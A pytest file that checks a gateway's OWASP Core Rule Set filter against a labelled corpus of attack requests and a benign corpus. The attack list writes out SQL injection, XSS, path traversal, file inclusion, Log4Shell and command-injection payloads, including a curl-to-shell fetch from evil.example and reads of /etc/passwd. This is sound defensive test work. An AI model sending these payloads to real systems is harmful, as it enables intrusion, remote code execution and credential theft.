"""The OWASP Core Rule Set in the gateway: an attack corpus (the classes the CRS files
name, with the encodings attackers use) must be refused, a benign corpus must pass."""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest
from conftest import Gateway

# (class, request). Requests go to paths without exceptions unless they say otherwise.
# Seen to pass both layers at paranoia level 1, so left out (README, "not caught"):
# `include(http://...)` in a parameter, shell wildcards (`/???/??t /???/p??s??`), a Spring
# `class.module.classLoader` parameter name, a base64 Java serialized object, `%ZZ%`.
ATTACKS: list[tuple[str, dict[str, Any]]] = [
    # SQL injection: plain, case, comments, whitespace, encodings, JSON escapes
    ("sqli", {"params": {"id": "1' AND 1=1--"}}),
    ("sqli", {"params": {"id": "1 UnIoN/**/SeLeCt username,password FrOm users"}}),
    ("sqli", {"params": {"id": "1'/**/or/**/'a'='a"}}),
    ("sqli", {"params": {"id": "1\tOR\n1=1"}}),
    ("sqli", {"params": {"id": "1%2527%2520OR%25201%253D1--"}}),  # double URL encoding
    ("sqli", {"params": {"id": "1; EXEC xp_cmdshell('dir')"}}),
    ("sqli", {"params": {"id": "1 AND SLEEP(5)"}}),
    ("sqli", {"params": {"id": "1' and extractvalue(1,concat(0x7e,version()))--"}}),
    ("sqli", {"params": {"id": "'; WAITFOR DELAY '0:0:5'--"}}),
    ("sqli", {"params": {"id": "1 AND (SELECT 1 FROM pg_sleep(5))"}}),
    ("sqli", {"params": {"id": "admin'#"}}),
    ("sqli", {"method": "POST", "path": "/api/reservations/reservations",
              "data": b'{"hotel_id": "1\\u0027 or \\u00271\\u0027=\\u00271"}',
              "headers": {"Content-Type": "application/json"}}),
    ("sqli", {"method": "POST", "path": "/signup", "data": {"email": "x@y.z' or 1=1 limit 1 -- -"}}),
    ("sqli", {"headers": {"Cookie": "session=1' union select null,null--"}}),
    ("sqli", {"params": {"id": "1 union all select @@version"}}),
    # XSS: tags, handlers, URIs, entities, JS escapes, full-width and overlong forms
    ("xss", {"params": {"q": "<script>alert(1)</script>"}}),
    ("xss", {"params": {"name": "<img src=x onerror=alert(1)>"}}),
    ("xss", {"params": {"name": "<svg/onload=alert(1)>"}}),
    ("xss", {"params": {"next": "javascript:alert(document.cookie)"}}),
    ("xss", {"params": {"name": "&lt;script&gt;alert(1)&lt;/script&gt;"}}),
    ("xss", {"params": {"name": "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;"}}),
    ("xss", {"params": {"name": "%253Cscript%253Ealert(1)%253C%252Fscript%253E"}}),
    ("xss", {"params": {"name": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}}),
    ("xss", {"params": {"name": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"}}),  # full-width
    ("xss", {"params": {"name": "<IFRAME SRC=\"jav&#x09;ascript:alert(1)\">"}}),
    ("xss", {"params": {"name": "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>"}}),
    ("xss", {"params": {"name": "<div style=\"background:url(javascript:alert(1))\">"}}),
    ("xss", {"method": "POST", "path": "/api/users/users",
             "data": b'{"name": "\\u003csvg onload=alert(1)\\u003e"}',
             "headers": {"Content-Type": "application/json"}}),
    ("xss", {"headers": {"Referer": "http://x/\"><script>alert(1)</script>"}}),
    ("xss", {"params": {"name": "<body onpageshow=alert(1)>"}}),
    # local file inclusion / path traversal
    ("lfi", {"params": {"file": "../../../../etc/passwd"}}),
    ("lfi", {"params": {"file": "..%2f..%2f..%2fetc%2fpasswd"}}),
    ("lfi", {"params": {"file": "%252e%252e%252f%252e%252e%252fetc%252fshadow"}}),
    ("lfi", {"params": {"file": "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"}}),  # UTF-8 overlong
    ("lfi", {"params": {"file": "..\\..\\..\\windows\\win.ini"}}),
    ("lfi", {"params": {"file": "/proc/self/environ"}}),
    ("lfi", {"params": {"file": ".htaccess"}}),
    # remote file inclusion
    ("rfi", {"params": {"page": "http://203.0.113.7/shell.txt?"}}),
    ("rfi", {"params": {"page": "ftp://198.51.100.3/backdoor.php"}}),
    # remote command execution
    ("rce", {"params": {"host": "127.0.0.1; cat /etc/passwd"}}),
    ("rce", {"params": {"host": "x|id"}}),
    ("rce", {"params": {"host": "$(curl http://evil.example/x.sh|sh)"}}),
    ("rce", {"params": {"host": "`wget evil.example`"}}),
    ("rce", {"params": {"host": "x;c'a't /e\"t\"c/pa\\ss\\wd"}}),
    ("rce", {"params": {"host": "x; powershell -enc SQBFAFgA"}}),
    ("rce", {"params": {"host": "x&& net user hacker P@ss /add"}}),
    ("rce", {"headers": {"User-Agent": "() { :; }; /bin/bash -c 'id'"}}),
    # PHP injection
    ("php", {"params": {"code": "<?php system($_GET['c']); ?>"}}),
    ("php", {"params": {"code": "php://filter/convert.base64-encode/resource=index.php"}}),
    ("php", {"params": {"code": "system('id');"}}),
    ("php", {"params": {"code": "O:8:\"stdClass\":0:{}"}}),
    ("php", {"params": {"code": "$_SERVER['HTTP_USER_AGENT']"}}),
    # Java / Spring / Log4Shell
    ("java", {"params": {"x": "${jndi:ldap://evil.example/a}"}}),
    ("java", {"headers": {"X-Api-Version": "${jndi:rmi://evil.example/a}"}}),
    ("java", {"params": {"x": "java.lang.Runtime.getRuntime().exec('id')"}}),
    # Node.js
    ("nodejs", {"params": {"x": "require('child_process').exec('id')"}}),
    # scanners
    ("scanner", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    ("scanner", {"headers": {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:001)"}}),
    ("scanner", {"headers": {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}}),
    ("scanner", {"headers": {"User-Agent": "Fuzz Faster U Fool v1.5.0"}}),
    ("scanner", {"headers": {"User-Agent": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}}),
    # protocol attacks: header injection, smuggling, splitting, bad encodings
    ("protocol", {"params": {"x": "foo%0d%0aSet-Cookie:%20evil=1"}}),
    ("protocol", {"params": {"x": "a\r\nContent-Length: 0\r\n\r\nGET /admin HTTP/1.1"}}),
    ("protocol", {"params": {"lang": "en\r\nLocation: http://evil.example"}}),
    ("protocol", {"path": "/hotels", "params": {"checkin": "2026-12-01\r\nSet-Cookie: x=1"}}),
    ("protocol", {"method": "PROPFIND"}),
    # session fixation
    ("session-fixation", {"params": {"x": "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=abc\">"}}),
    ("session-fixation", {"params": {"x": "document.cookie=\"sessionid=abc\""}}),
    # multipart (no route takes it: refused)
    ("multipart", {"method": "POST", "data": (
        b'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n'),
        "headers": {"Content-Type": "multipart/form-data; boundary=b"}}),
]

CSRF = "IjRmNjE5ZDQ3ZTk2MGFmNTQ4YmQ4NTM0MzY5ZTQ3YzQ1NjJmZmRlZDYi.Zz7x3Q.q-Wm--3xY_Zk+9/aBc=="
UUID = "6f1c2a9e-0b3d-4c5e-9a8b-7c6d5e4f3a2b"
BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "fr-FR,fr;q=0.9,en;q=0.5",
    "Cookie": f"session=eyJfZnJlc2giOmZhbHNlfQ.Zz7x3Q.Ab-cd_EF--gh; csrf={CSRF}",
}

BENIGN: list[tuple[str, dict[str, Any]]] = [
    ("names", {"path": "/api/users/users", "method": "POST",
               "json": {"email": "conan.obrien@example.com", "name": "Conan O'Brien", "password": "x"}}),
    ("names", {"path": "/api/users/users", "method": "POST",
               "json": {"email": "zoe@example.com", "name": "Zoë Ñúñez d'Ávila", "password": "x"}}),
    ("names", {"path": "/signup", "method": "POST", "data": {
        "csrf_token": CSRF, "name": "D'Angelo O'Neil-Smith", "email": "dangelo@example.com",
        "password": "Tr0ub4dor&3 ' OR '1'='1 --", "password_confirm": "Tr0ub4dor&3 ' OR '1'='1 --"}}),
    ("names", {"path": "/api/users/users/me", "method": "PATCH", "json": {"name": "Jean-Luc Picard & Co."}}),
    ("names", {"path": "/reservations/" + UUID + "/pay", "method": "POST",
               "data": {"csrf_token": CSRF, "holder": "Siobhán Ní Bhriain", "card_number": "4242 4242 4242 4242",
                        "expiry": "12/30", "cvc": "123", "idempotency_key": UUID}}),
    ("addresses", {"path": "/api/search/hotels", "method": "POST", "json": {
        "name": "L'Hôtel du Café", "city": "Saint-Jean-d'Angély", "country": "FR",
        "address": "12, rue de l'Église; 2nd floor (apt. #3) & courtyard, 17400 Saint-Jean-d'Angély",
        "description": "Select a room and drop by the bar; update your booking from 1 or 2 nights -- "
                       "rooms < 100 € and > 50 €, 50% off; cats & dogs | kids welcome. Union Square is near.",
        "stars": 3}}),
    ("addresses", {"path": "/api/search/hotels", "params": {"city": "Val-d'Isère", "guests": "2"}}),
    ("addresses", {"path": "/api/search/hotels", "params": {"city": "Bad Homburg v.d. Höhe"}}),
    ("free text", {"path": "/api/search/hotels", "params": {"q": "select a room and drop by"}}),
    ("free text", {"path": "/api/search/hotels", "params": {"q": "union station hotels; from $100 or less"}}),
    ("free text", {"path": "/api/search/hotels", "params": {"q": "rock & roll | live music; sleep well"}}),
    ("free text", {"path": "/api/search/hotels", "params": {"q": "what's the best room? (quiet, 2 beds)"}}),
    ("free text", {"path": "/hotels", "params": {"city": "Paris", "q": "Insert coin; update: delete old bookings"}}),
    ("passwords", {"path": "/oauth/authorize", "method": "POST", "data": {
        "csrf_token": CSRF, "email": "guest@example.com", "password": "<script>alert(1)</script>'; DROP TABLE--",
        "client_id": "booking-ui", "redirect_uri": "http://127.0.0.1:8080/auth/callback", "state": "x",
        "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "response_type": "code", "scope": "guest"}}),
    ("passwords", {"path": "/api/users/password-reset/confirm", "method": "POST",
                   "json": {"token": "abc.def", "new_password": "$(rm -rf /) && ../../etc/passwd"}}),
    ("journey", {"path": "/", "headers": BROWSER}),
    ("journey", {"path": "/hotels", "params": {"city": "Paris", "checkin": "2026-12-01", "checkout": "2026-12-05",
                                             "guests": "2"}, "headers": BROWSER}),
    ("journey", {"path": "/hotels/" + UUID, "params": {"checkin": "2026-12-01", "checkout": "2026-12-05"},
                 "headers": BROWSER}),
    ("journey", {"path": "/login", "params": {"next": "/hotels/" + UUID + "?checkin=2026-12-01"}, "headers": BROWSER}),
    ("journey", {"path": "/oauth/authorize", "params": {
        "response_type": "code", "client_id": "booking-ui", "redirect_uri": "http://127.0.0.1:8080/auth/callback",
        "scope": "guest", "state": "Zz7x3Q-abc_def", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
        "code_challenge_method": "S256"}, "headers": BROWSER}),
    ("journey", {"path": "/oauth/token", "method": "POST", "data": {
        "grant_type": "authorization_code", "code": "Sp1x-_abc--DEF", "client_id": "booking-ui",
        "redirect_uri": "http://127.0.0.1:8080/auth/callback", "code_verifier": "dBjftJeZ4CVP-mB92K27uhbUJU1p1r"}}),
    ("journey", {"path": "/api/reservations/reservations", "method": "POST",
                 "headers": {"Authorization": "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.a-b_c--d"},
                 "json": {"hotel_id": UUID, "room_type_id": UUID, "checkin": "2026-12-01", "checkout": "2026-12-05",
                          "guests": 2}}),
    ("journey", {"path": "/api/payments/payments", "method": "POST",
                 "headers": {"Idempotency-Key": UUID, "Authorization": "Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.x"},
                 "json": {"reservation_id": UUID, "card": {"number": "4000 0000 0000 0002", "exp_month": 12,
                                                          "exp_year": 2030, "cvc": "123", "name": "Zoë O'Brien"}}}),
    ("journey", {"path": "/api/reservations/reservations/" + UUID, "method": "DELETE"}),
    ("journey", {"path": "/api/reservations/reservations/" + UUID + "/receipt.pdf"}),
    ("journey", {"path": "/api/users/users/me", "method": "PUT", "json": {"name": "Ann"}}),
    ("journey", {"path": "/.well-known/jwks.json"}),
    ("journey", {"path": "/static/css/app.min.css", "params": {"v": "1.2.3"}, "headers": BROWSER}),
    ("journey", {"path": "/api/search/hotels", "params": {"next_token": "eyJvZmZzZXQiOjIwfQ.Zz7x3Q.a-b_c--d=="}}),
]


def send(gateway: Gateway, request: dict[str, Any], request_id: str):
    request = dict(request)
    method = request.pop("method", "GET")
    path = request.pop("path", "/api/search/hotels")
    headers = {"X-Request-ID": request_id, **request.pop("headers", {})}
    if request.pop("raw_query", False):
        query = "&".join(f"{k}={v}" for k, v in request.pop("params").items())
        path = f"{path}?{query}"
    return gateway.request(method, path, headers=headers, **request)


@pytest.mark.parametrize(("kind", "request_"), ATTACKS, ids=[f"{k}-{i}" for i, (k, _) in enumerate(ATTACKS)])
def test_attack_is_refused(gateway: Gateway, kind, request_):
    request_id = f"attack-{uuid.uuid4().hex[:12]}"
    response = send(gateway, request_, request_id)
    assert response.status_code in (400, 403, 415), f"{kind}: {response.status_code} {response.text[:300]}"
    assert response.headers["Content-Type"] == "application/problem+json"


@pytest.mark.parametrize(("kind", "request_"), BENIGN, ids=[f"{k}-{i}" for i, (k, _) in enumerate(BENIGN)])
def test_benign_request_passes(gateway: Gateway, kind, request_):
    request_id = f"benign-{uuid.uuid4().hex[:12]}"
    response = send(gateway, request_, request_id)
    assert response.status_code == 200, f"{kind}: {response.text[:400]}"
    entry = gateway.log_for(request_id)
    assert entry["waf_rule"] == "" and entry["waf_score"] == "", entry


def test_blocked_request_logs_crs_ids_and_score(gateway: Gateway, problem):
    request_id = f"crs-{uuid.uuid4().hex[:12]}"
    response = send(gateway, {"path": "/", "params": {"id": "1 union all select @@version"}}, request_id)
    body = problem(response, 403)
    entry = gateway.log_for(request_id)
    ids = entry["waf_rule"].split(",")
    assert any(i.isdigit() and i.startswith("942") for i in ids), ids
    assert int(entry["waf_score"]) >= 5
    assert entry["waf_action"] == "blocked"
    assert body["rule_id"] in ids  # our own rule when it matched first, else the first CRS rule


def test_detect_mode_logs_crs_matches_without_blocking(detect_gateway: Gateway):
    request_id = f"crs-detect-{uuid.uuid4().hex[:12]}"
    response = send(detect_gateway, {"path": "/", "params": {"file": "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"}},
                    request_id)
    assert response.status_code == 200
    entry = detect_gateway.log_for(request_id)
    assert entry["waf_action"] == "logged"
    assert any(i.startswith("930") for i in entry["waf_rule"].split(",")), entry
    assert int(entry["waf_score"]) >= 5


def test_prose_exclusions_are_per_field_and_route(gateway: Gateway, problem):
    # `q` on the search API is free text for the prose-prone rules...
    ok = send(gateway, {"path": "/api/search/hotels", "params": {"q": "rock & roll | live music; sleep well"}}, "p-1")
    assert ok.status_code == 200
    # ...the same words in another field, or on another route, are judged by every rule
    problem(send(gateway, {"path": "/api/search/hotels", "params": {"x": "x; cat /etc/passwd"}}, "p-2"), 403)
    # and an attack in `q` is still refused (our own rules and the other CRS rules)
    problem(send(gateway, {"path": "/api/search/hotels", "params": {"q": "<script>alert(1)</script>"}}, "p-3"), 403)
    problem(send(gateway, {"path": "/api/search/hotels", "params": {"q": "x' union select password from users--"}},
                 "p-4"), 403)


def test_render_lists_the_rules_it_cannot_express(tmp_path, upstreams):
    from conftest import render
    result = render(tmp_path / "gw", 18080, upstreams)
    assert result.returncode == 0, result.stderr
    assert "OWASP CRS rules not supported by the Lua engine" in result.stderr
    data = json.loads((tmp_path / "gw" / "crs-rules.json").read_text())
    listed = result.stderr.split("(not applied): ")[1].split("\n")[0].split(", ")
    assert listed == [str(item["id"]) for item in data["unsupported"]]
    assert data["paranoia_level"] == 1 and data["inbound_anomaly_score_threshold"] == 5
    assert len(data["rules"]) > 90


def test_crs_reads_cookies(gateway: Gateway, problem):
    request_id = f"crs-cookie-{uuid.uuid4().hex[:12]}"
    response = send(gateway, {"path": "/", "headers": {"Cookie": "theme=dark; session=1' union select null,null--"}},
                    request_id)
    problem(response, 403)
    ids = gateway.log_for(request_id)["waf_rule"].split(",")
    assert "942100" in ids, ids  # libinjection on REQUEST_COOKIES, besides our own rule


# A signed value (itsdangerous shape: base64url segments joined by dots) in which the random
# characters spell ".nsr", an entry of lfi-os-files.data (930120).
SIGNED = "eyJfZnJlc2giOmZhbHNlfQ.aX3kQw.Q2.nsrT4-x_Yz"


def test_signed_values_are_left_to_their_signature(gateway: Gateway, problem):
    login = {"csrf_token": SIGNED, "email": "guest@example.com", "password": "x"}
    passed = send(gateway, {"path": "/oauth/authorize", "method": "POST", "data": login,
                            "headers": {"Cookie": f"hotelbook_auth={SIGNED}; hotelbook_device={SIGNED}"}}, "s-1")
    assert passed.status_code == 200, passed.text[:300]
    assert send(gateway, {"path": "/", "headers": {"Cookie": f"hb_session={SIGNED}"}}, "s-2").status_code == 200
    # the same value under a name we do not sign is judged by every rule...
    problem(send(gateway, {"path": "/", "params": {"file": SIGNED}}, "s-3"), 403)
    problem(send(gateway, {"path": "/", "headers": {"Cookie": f"theme={SIGNED}"}}, "s-4"), 403)
    # ...and a signed name holding anything but base64url and dots is inspected as usual
    problem(send(gateway, {"path": "/", "headers": {"Cookie": "hb_session=../../etc/passwd"}}, "s-5"), 403)
    problem(send(gateway, {"path": "/oauth/authorize", "method": "POST",
                           "data": {**login, "csrf_token": "1' union select password from users--"}}, "s-6"), 403)
